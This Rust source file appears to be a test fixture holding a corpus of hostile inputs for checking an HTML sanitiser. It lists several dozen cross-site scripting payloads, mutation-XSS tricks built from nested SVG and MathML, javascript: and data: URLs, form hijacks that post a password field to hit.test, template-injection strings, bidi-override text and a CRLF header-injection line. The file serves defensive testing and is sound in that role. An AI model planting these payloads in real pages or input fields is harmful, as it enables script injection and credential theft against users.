//! What people with ill will write where a text is asked for. Every piece that would run sets `window.__hit` or asks
//! `hit.test` for something; every element it would make carries the class or id `hit`.

/// Markup: elements that run, attributes that run, addresses that run, ways out of attributes, texts and elements, and
/// what a parser makes of misnested foreign elements.
const MARKUP: [&str; 58] = [
    "<script class=hit>__hit=1</script>",
    "<script class=hit src=//hit.test/x.js></script>",
    "<ScRiPt class=hit>__hit=1</sCrIpT >",
    "<scr<script>ipt class=hit>__hit=1</script>",
    "\"><script class=hit>__hit=1</script>",
    "'><script class=hit>__hit=1</script>",
    "</title></textarea></style></script><script class=hit>__hit=1</script>",
    "--><script class=hit>__hit=1</script><!--",
    "]]><script class=hit>__hit=1</script>",
    "<img class=hit src=x onerror=__hit=1>",
    "<img class=hit src=//hit.test/x onerror=\"__hit=1\" style=\"position:fixed;inset:0\">",
    "<img/class=hit/src=x/onerror=__hit=1//",
    "<img class=hit src='x'onerror='__hit=1'",
    "\" onfocus=__hit=1 autofocus class=hit x=\"",
    "' onpointerover=__hit=1 class=hit x='",
    "` onload=__hit=1 class=hit x=`",
    "x onerror=__hit=1 class=hit",
    "<body class=hit onload=__hit=1>",
    "<html class=hit onclick=__hit=1>",
    "<video class=hit><source onerror=__hit=1></video>",
    "<audio class=hit src=x onerror=__hit=1>",
    "<details class=hit open ontoggle=__hit=1><summary>x</summary></details>",
    "<marquee class=hit onstart=__hit=1>x</marquee>",
    "<input class=hit onfocus=__hit=1 autofocus>",
    "<select class=hit onfocus=__hit=1 autofocus><option>x</select>",
    "<button class=hit formaction=javascript:__hit=1>x</button>",
    "<form class=hit action=//hit.test/><button>x</button></form>",
    "</form><form class=hit action=//hit.test/ id=hit><input name=password>",
    "<input class=hit form=hit name=authenticity_token value=x>",
    "<meta class=hit http-equiv=refresh content=\"0;url=//hit.test/\">",
    "<base class=hit href=//hit.test/>",
    "<link class=hit rel=stylesheet href=//hit.test/x.css>",
    "<style class=hit>*{display:none}</style>",
    "<p class=hit style=\"position:fixed;inset:0;background:red\">x</p>",
    "<iframe class=hit srcdoc=\"<script>parent.__hit=1</script>\"></iframe>",
    "<iframe class=hit src=javascript:parent.__hit=1></iframe>",
    "<object class=hit data=javascript:__hit=1></object><embed class=hit src=javascript:__hit=1>",
    "<template class=hit shadowrootmode=open><script>__hit=1</script></template>",
    "<portal class=hit src=//hit.test/></portal><frameset class=hit><frame src=javascript:__hit=1></frameset>",
    "<svg class=hit onload=__hit=1>",
    "<svg class=hit><script>__hit=1</script></svg>",
    "<svg class=hit><animate onbegin=__hit=1 attributeName=x dur=1s></svg>",
    "<svg class=hit><a xlink:href=javascript:__hit=1><text y=9>x</text></a></svg>",
    "<svg class=hit><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"></svg>",
    "<svg class=hit><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img class=hit src=1 onerror=__hit=1>\">",
    "<math class=hit><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img class=hit src=1 onerror=__hit=1&gt;\">",
    "<math class=hit href=javascript:__hit=1><mi>x</mi></math>",
    "<math><annotation-xml encoding=\"text/html\"><style><img class=hit src=x onerror=__hit=1></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img class=hit src onerror=__hit=1>",
    "<noscript><p title=\"</noscript><img class=hit src=x onerror=__hit=1>\">",
    "<xmp><p title=\"</xmp><img class=hit src=x onerror=__hit=1>\">",
    "<table><td></div></div></main><h1 class=hit>x</h1><tr></table></article></li></ol>",
    "<b><i class=hit><p></b></i><a href=https://a.test><a href=https://b.test>x",
    "<plaintext class=hit>",
    "<!--><img class=hit src=x onerror=__hit=1>-->",
    "<![CDATA[><img class=hit src=x onerror=__hit=1>]]>",
    "&lt;img class=hit src=x onerror=__hit=1&gt; &#60;script&#62;__hit=1&#60;/script&#62; &amp;lt;b&amp;gt;",
];

/// Addresses that run, or lead elsewhere than they say.
const ADDRESSES: [&str; 10] = [
    "javascript:__hit=1",
    "JaVaScRiPt:__hit=1//https://ok.test/",
    "\tjava\nscript:__hit=1",
    "&#106;avascript&colon;__hit=1",
    "data:text/html,<script>parent.__hit=1</script>",
    "data:image/svg+xml,<svg onload='__hit=1' xmlns='http://www.w3.org/2000/svg'/>",
    "vbscript:__hit=1",
    "blob:https://hit.test/1",
    "//hit.test/\" onmouseover=__hit=1 class=hit x=\"",
    "https://hit.test/'\"><svg class=hit onload=__hit=1>",
];

/// Template languages that might be read, and format characters that might turn a line around.
const TEXTS: [&str; 10] = [
    "{{constructor.constructor('__hit=1')()}}",
    "${__hit=1} #{__hit=1} <%= __hit=1 %> {%raw%} [[__hit=1]]",
    "{ $name } { -brand } { \"\\u0022\" } {hit}",
    "\u{202e}gpj.exe \u{2066}\u{2067}\u{2068}hit \u{200f}\u{061c}",
    "\u{202a}\u{202b}\u{202d}\u{202e} never closed hit",
    "h\u{0301}\u{0302}\u{0303}\u{0304}\u{0305}\u{0306}\u{0307}\u{0308}i\u{0310}\u{0311}\u{0312}\u{0313}\u{0314}\u{0315}t",
    "hit\u{0}\u{1}\u{8}\u{b}\u{1f}\u{7f}\u{9f}\u{feff}\u{fffe}<b\u{0} class=hit>x",
    "\u{feff}\u{200b}\u{200c}\u{200d}\u{2060}\u{ad}hit\u{34f}\u{115f}\u{3164}",
    "\u{fdfd}\u{12031}\u{fdfd}\u{a9c5}\u{a9c5} hit 𒐫𒐫𒐫𒐫𒐫",
    "hit\r\nSet-Cookie: hit=1\r\n\r\n<script>__hit=1</script>",
];

/// Texts inside JSON that are no Unicode: bytes that are no UTF-8, and half a surrogate pair.
pub(super) const BROKEN: [&[u8]; 5] =
    [b"hit\xff\xfe", b"hit\xc3\x28", b"hit\xed\xa0\x80", b"hit\\ud800", b"hit\xf0\x28\x8c\x28"];

/// All of it; each is one text.
pub(super) fn corpus() -> Vec<String> {
    let mut all: Vec<String> = MARKUP.iter().chain(&ADDRESSES).chain(&TEXTS).map(ToString::to_string).collect();
    // A link of each address, as HTML.
    all.extend(ADDRESSES.iter().map(|address| format!("<a class=hit href=\"{address}\">hit</a>")));
    // A word without an end, marks without an end, levels without an end.
    all.push("hit".repeat(3_334));
    all.push(format!("hit{}", "\u{0300}\u{0316}\u{0489}".repeat(300)));
    all.push(format!("{}hit", "<blockquote><ul><li>".repeat(90)));
    all.push(format!("{}hit", "\u{202e}\u{2067}".repeat(200)));
    all.push(format!("<table class=hit width=9999><tr>{}</table>", "<td nowrap>hithithithithithit".repeat(60)));
    all.push("<pre>".to_owned() + &"hit ".repeat(500) + "</pre>");
    all
}

/// At most `most` characters of a text.
pub(super) fn cut(text: &str, most: usize) -> String {
    text.chars().take(most).collect()
}
